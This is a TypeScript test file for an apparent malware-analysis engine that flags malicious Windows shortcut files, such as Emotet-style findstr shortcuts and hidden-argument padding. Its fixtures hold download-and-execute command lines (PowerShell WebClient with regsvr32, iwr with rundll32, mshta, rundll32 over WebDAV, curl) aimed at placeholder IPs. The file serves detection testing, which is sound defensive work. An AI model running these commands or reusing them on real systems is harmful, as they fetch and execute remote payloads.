import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isKnownTechnique, type Finding } from '../../core/index.js';
import { buildEmotetFindstrLnk, buildLnk, buildPowerShellLnk } from '../../../test/builders/lnk.js';
import { makeContext } from '../../../test/support/engine-context.js';
import { LNK_FINDINGS, lnkEngine } from './index.js';

const analyze = async (bytes: Uint8Array, name = 'invoice.pdf.lnk') =>
  lnkEngine.analyze(makeContext(bytes, { name }));
const ids = (findings: Finding[] | undefined) => (findings ?? []).map((f) => f.id).sort();

test('lnk: finding ids are lnk.<slug> and cite known ATT&CK techniques', () => {
  for (const f of LNK_FINDINGS) {
    assert.match(f.def.id, /^lnk\.[a-z0-9-]+$/);
    for (const t of f.def.attack) assert.ok(isKnownTechnique(t), `${f.def.id}: ${t}`);
  }
});

test('lnk: Emotet 2022 findstr shortcut → shell, carved payload, padding, icon, appended script child', async () => {
  const out = await analyze(buildEmotetFindstrLnk(), 'Form 04.25.2022, US.lnk');
  assert.deepEqual(ids(out.findings), [
    'lnk.appended-data',
    'lnk.carves-payload',
    'lnk.document-icon',
    'lnk.hidden-arguments',
    'lnk.shell-command',
    'lnk.shortcut-metadata',
  ]);
  const carved = out.children?.find((c) => c.name === 'carved-by-findstr.vbs');
  assert.ok(carved);
  const text = new TextDecoder().decode(carved.bytes);
  assert.equal(text.split('\r\n').length, 6);
  assert.match(text, /^glKmfOKnQLYKnNs=1::Set x = CreateObject\("MSXML2/);
  const meta = out.findings!.find((f) => f.id === 'lnk.shortcut-metadata')!;
  const where = (loc: string) => meta.evidence.find((e) => e.location === loc)?.text;
  assert.equal(where('TrackerDataBlock.MachineID'), 'desktop-4ufn3rs');
  assert.equal(where('TrackerDataBlock.MAC'), '08:00:27:1a:2b:3c');
  assert.equal(where('target'), '%windir%\\system32\\cmd.exe');
  const hidden = out.findings!.find((f) => f.id === 'lnk.hidden-arguments')!;
  assert.match(hidden.evidence[0]!.note ?? '', /180 whitespace characters at 0/);
  assert.match(hidden.evidence[0]!.text ?? '', /^\/v:on \/c findstr/);
});

test('lnk: powershell -enc shortcut → decoded child (typeHint powershell), critical download+execute, IOCs', async () => {
  const command =
    '$u=\'http://192.0.2.44/x.dll\';$p="$env:TEMP\\x.dll";(New-Object Net.WebClient).DownloadFile($u,$p);regsvr32.exe /s $p';
  const out = await analyze(buildPowerShellLnk(command));
  assert.ok(ids(out.findings).includes('lnk.shell-command'));
  assert.ok(ids(out.findings).includes('lnk.download-and-execute'));
  assert.ok(ids(out.findings).includes('lnk.document-icon'), 'Edge PDF icon on powershell.exe');
  const child = out.children?.find((c) => c.relation === 'decoded');
  assert.equal(child?.typeHint, 'powershell');
  assert.equal(new TextDecoder().decode(child!.bytes), command);
  assert.equal(out.extracted?.powershell?.[0]?.decoded, command);
  assert.deepEqual(out.extracted?.iocs?.urls, ['http://192.0.2.44/x.dll']);
});

test('lnk: inline PowerShell command (no -enc) goes to the PowerShell engine as a child', async () => {
  const out = await analyze(
    buildLnk({
      target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      arguments:
        '-w hidden -c "iwr http://198.51.100.9/a.dll -OutFile $env:TEMP\\a.dll; rundll32 $env:TEMP\\a.dll,Run"',
    }),
  );
  assert.ok(ids(out.findings).includes('lnk.download-and-execute'));
  assert.equal(out.children?.[0]?.name, 'command-line.ps1');
  assert.equal(out.children?.[0]?.typeHint, 'powershell');
});

test('lnk: mshta, rundll32 and curl targets map to their own findings', async () => {
  const cases: [string, string, string][] = [
    ['C:\\Windows\\System32\\mshta.exe', 'http://192.0.2.7/a.hta', 'lnk.script-host'],
    [
      'C:\\Windows\\System32\\rundll32.exe',
      '\\\\192.0.2.7@80\\share\\x.dll,Start',
      'lnk.proxy-execution',
    ],
    ['C:\\Windows\\System32\\curl.exe', '-o a.txt http://192.0.2.7/a.txt', 'lnk.download-tool'],
  ];
  for (const [target, args, id] of cases) {
    const out = await analyze(buildLnk({ target, arguments: args }), 'x.lnk');
    assert.ok(ids(out.findings).includes(id), `${target}: ${ids(out.findings).join(', ')}`);
  }
});

test('lnk: an ordinary shortcut (program, no arguments, own icon) → only metadata, clean', async () => {
  const out = await analyze(
    buildLnk({
      target: 'C:\\Program Files\\LibreOffice\\program\\soffice.exe',
      workingDir: 'C:\\Program Files\\LibreOffice\\program',
      iconLocation: 'C:\\Program Files\\LibreOffice\\program\\soffice.exe',
    }),
    'LibreOffice.lnk',
  );
  assert.deepEqual(ids(out.findings), ['lnk.shortcut-metadata']);
  assert.deepEqual(out.children, []);
});

test('lnk: cmd.exe without arguments (a "Command Prompt" shortcut) is not a command finding', async () => {
  const out = await analyze(
    buildLnk({ target: 'C:\\Windows\\System32\\cmd.exe' }),
    'Command Prompt.lnk',
  );
  assert.deepEqual(ids(out.findings), ['lnk.shortcut-metadata']);
});

test('lnk: hidden arguments threshold: 31 spaces no, 32 yes; 1024 characters no, 1025 yes', async () => {
  const has = async (args: string) =>
    ids(
      (await analyze(buildLnk({ target: 'C:\\Tools\\app.exe', arguments: args }), 'a.lnk'))
        .findings,
    ).includes('lnk.hidden-arguments');
  assert.equal(await has(`a${' '.repeat(31)}b`), false);
  assert.equal(await has(`a${' '.repeat(32)}b`), true);
  assert.equal(await has('x'.repeat(1024)), false);
  assert.equal(await has('x'.repeat(1025)), true);
  assert.equal(await has('a\r\nb'), true);
});

test('lnk: truncated and garbage inputs → parse-error findings, never an exception', async () => {
  const full = buildEmotetFindstrLnk();
  for (const cut of [0x4c, 0x60, 200, 400, 700]) {
    const out = await analyze(full.subarray(0, cut));
    assert.ok(Array.isArray(out.findings));
  }
  const out = await analyze(full.subarray(0, 0x50));
  assert.ok(ids(out.findings).includes('scan.parse-error'));
  const notLnk = await lnkEngine.analyze(makeContext(new Uint8Array(10), { type: 'lnk' }));
  assert.deepEqual(ids(notLnk.findings), ['scan.parse-error']);
});
